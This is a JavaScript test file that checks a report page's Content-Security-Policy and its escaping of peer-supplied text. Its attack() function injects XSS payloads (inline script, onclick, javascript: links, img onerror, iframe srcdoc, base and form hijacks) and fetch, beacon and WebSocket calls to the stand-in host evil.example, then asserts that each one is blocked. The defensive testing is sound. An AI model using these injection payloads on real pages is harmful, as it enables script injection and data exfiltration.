// The page asks for nothing, runs nothing but its own script, and shows what peers said as text.

import assert from 'node:assert/strict';
import fs from 'node:fs';

const ALL = ['samples', 'hostile', 'empty', 'one-report'];

// Directives that must be there, and the sources that each may have.
const POLICY = {
	'default-src': /^'none'$/,
	'base-uri': /^'none'$/,
	'form-action': /^'none'$/,
	'script-src': /^('sha256-[A-Za-z0-9+/]{43}=' ?)+$/,
	'style-src': /^('sha256-[A-Za-z0-9+/]{43}=' ?)+$/,
};
// What the policy has to stop, when it is tried.
const STOPPED = ['script-src', 'img-src', 'style-src', 'connect-src', 'base-uri', 'form-action'];
// Elements that fetch something, go somewhere or run something.
const ELEMENTS = [
	...['img', 'image', 'iframe', 'frame', 'object', 'embed', 'link', 'base', 'audio', 'video', 'source', 'track'],
	...['portal', 'applet', 'foreignobject', 'animate', 'set', 'template'],
];
const ATTRIBUTES = /^on|^(src|srcset|srcdoc|data|poster|action|formaction|ping|background|style)$/i;
const INVISIBLE =
	/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff9-\uffff]/;

function policyOf(content) {
	return Object.fromEntries(
		content
			.split(';')
			.map(part => part.trim().split(/\s+/))
			.filter(([name]) => name)
			.map(([name, ...sources]) => [name, sources.join(' ')]),
	);
}

function plain(text) {
	return text.replace(/\s+/g, ' ').trim();
}

// Does what somebody who got markup into the page would try.
function attack() {
	const give = (name, attributes) => {
		const element = document.createElement(name);

		for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
		document.body.append(element);
		return element;
	};
	const script = document.createElement('script');

	script.textContent = 'pwned()';
	document.body.append(script);
	give('button', { onclick: 'pwned()' }).click();
	give('a', { href: 'javascript:pwned()' }).click();
	give('img', { src: 'http://evil.example/x.png', onerror: 'pwned()' });
	give('link', { rel: 'stylesheet', href: 'http://evil.example/x.css' });
	give('iframe', { srcdoc: '<script>parent.pwned()</script>' });
	give('base', { href: 'http://evil.example/' });
	const form = give('form', { action: 'http://evil.example/' });

	form.submit();
	// Later, because what the driver itself calls may make code of text.
	setTimeout(() => Function('pwned()')(), 0);
	for (const run of [
		() => fetch('http://evil.example/').catch(() => {}),
		() => navigator.sendBeacon('http://evil.example/'),
		() => new WebSocket('ws://evil.example/'),
	])
		try {
			run();
		} catch {
			// Stopped, as it should be.
		}
	return document.baseURI;
}

export default [
	{
		name: 'the policy is strict',
		on: ALL,
		async check({ file }) {
			const text = fs.readFileSync(file, 'utf8');
			const meta = text.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/i);

			assert.ok(meta, 'no policy');
			assert.ok(meta.index < text.search(/<(style|script)\b/), 'the policy comes too late to hold');
			const policy = policyOf(meta[1].replaceAll('&#39;', "'"));

			for (const [name, sources] of Object.entries(POLICY))
				assert.match(policy[name] ?? '(missing)', sources, name);
			for (const name of Object.keys(policy)) assert.ok(name in POLICY, `${name} allows more than is needed`);
		},
	},
	{
		name: 'the policy holds',
		on: ['samples'],
		alters: true,
		async check({ page, trouble, url }) {
			const base = await page.evaluate(attack);

			await page
				.waitForFunction(names => names.every(name => window.struck.some(one => one.includes(name))), STOPPED, {
					timeout: 5000,
				})
				.catch(() => {});
			assert.equal(page.url().split('#')[0], url);
			assert.equal(base, url, 'links were turned elsewhere');
			const struck = await page.evaluate(() => window.struck);

			assert.deepEqual(
				struck.filter(one => one.startsWith('pwned')),
				[],
			);
			for (const directive of STOPPED)
				assert.ok(
					struck.some(one => one.includes(directive)),
					`nothing stopped ${directive}: ${struck}`,
				);
			assert.deepEqual(
				trouble.filter(one => one.startsWith('asked') && !one.includes('evil.example')),
				[],
			);
		},
	},
	{
		name: 'the page asks for nothing and complains of nothing',
		on: ALL,
		uses: true,
		async check({ page, trouble }) {
			await page.evaluate(() => {
				for (const one of document.querySelectorAll('details')) one.open = true;
				window.scrollTo(0, document.documentElement.scrollHeight);
				for (const one of document.querySelectorAll('input, select, nav a')) one.focus();
			});
			await page.waitForTimeout(100);
			assert.deepEqual(trouble, []);
			assert.deepEqual(await page.evaluate(() => window.struck), []);
			assert.ok((await page.evaluate(() => document.scripts.length)) <= 1, 'more than one script');
		},
	},
	{
		name: 'nothing in the page could ask or run',
		on: ALL,
		async check({ page }) {
			const odd = await page.evaluate(
				({ elements, attributes }) => {
					const runs = new RegExp(attributes, 'i');
					const goes = ({ name, value }) =>
						runs.test(name) ||
						(/href$/i.test(name) && !value.startsWith('#')) ||
						(/url\s*\(|javascript:/i.test(value) && !/^(value|title|aria-label|data-[a-z-]+)$/.test(name));

					return [...document.querySelectorAll('*')].flatMap(one => [
						...(elements.includes(one.localName.toLowerCase()) ? [one.localName] : []),
						...(one.localName === 'meta' && /refresh/i.test(one.httpEquiv) ? ['meta refresh'] : []),
						...[...one.attributes]
							.filter(goes)
							.map(({ name, value }) => `${one.localName} ${name}=${value.slice(0, 60)}`),
					]);
				},
				{ elements: ELEMENTS, attributes: ATTRIBUTES.source },
			);

			assert.deepEqual([...new Set(odd)], []);
		},
	},
	{
		name: 'what peers said is text',
		on: ['hostile'],
		async check({ page, facts, trouble }) {
			const text = plain(await page.evaluate(() => document.body.textContent));
			const shown = await page.evaluate(() =>
				[...document.querySelectorAll('[id^="session-"]')]
					.filter(one => /-\d+$/.test(one.id))
					.map(one => one.id.slice(8)),
			);
			const said = facts.said.filter(({ session }) => shown.includes(String(session))).map(({ line }) => line);
			const odd = [
				...said,
				...Object.values(facts.findings)
					.filter(({ severity }) => ['critical', 'high'].includes(severity))
					.map(({ evidence }) => evidence ?? ''),
			].filter(line => /[<>&"'{]/.test(line));

			assert.ok(odd.length > 20, `only ${odd.length} such lines`);
			assert.deepEqual(
				odd.filter(line => !text.includes([...plain(line)].slice(0, 60).join(''))),
				[],
			);
			for (const word of ['<i>in</i>"', ' &lt;.pcap', ...facts.names])
				// a vantage, a file, accounts
				assert.ok(text.includes(word), `no ${word}`);
			assert.deepEqual(await page.evaluate(() => window.struck), []);
			assert.deepEqual(trouble, []);
		},
	},
	{
		name: 'what peers said makes no element',
		on: ['hostile'],
		async check({ page, beside }) {
			const kinds = view =>
				view.evaluate(() => [...new Set([...document.querySelectorAll('*')].map(one => one.localName))].sort());
			const usual = await kinds((await beside('samples')).page);

			assert.deepEqual(
				(await kinds(page)).filter(kind => !usual.includes(kind)),
				[],
			);
			assert.equal(await page.locator('script').count(), 1);
			assert.equal(await page.locator('style').count(), 1);
			assert.equal(await page.evaluate(() => document.title.includes('<') || document.title === ''), false);
		},
	},
	{
		name: 'no letter is invisible or turns the line around',
		on: ['hostile'],
		async check({ page }) {
			const found = await page.evaluate(pattern => {
				const walk = document.createTreeWalker(document.documentElement, NodeFilter.SHOW_ALL);
				const bad = [];

				for (let node = walk.currentNode; node; node = walk.nextNode())
					for (const text of [node.nodeValue ?? '', ...[...(node.attributes ?? [])].map(one => one.value)])
						if (!['style', 'script'].includes(node.parentNode?.localName) && new RegExp(pattern).test(text))
							bad.push(escape(text.slice(0, 80)));
				return bad;
			}, INVISIBLE.source);

			assert.deepEqual(found, []);
		},
	},
];
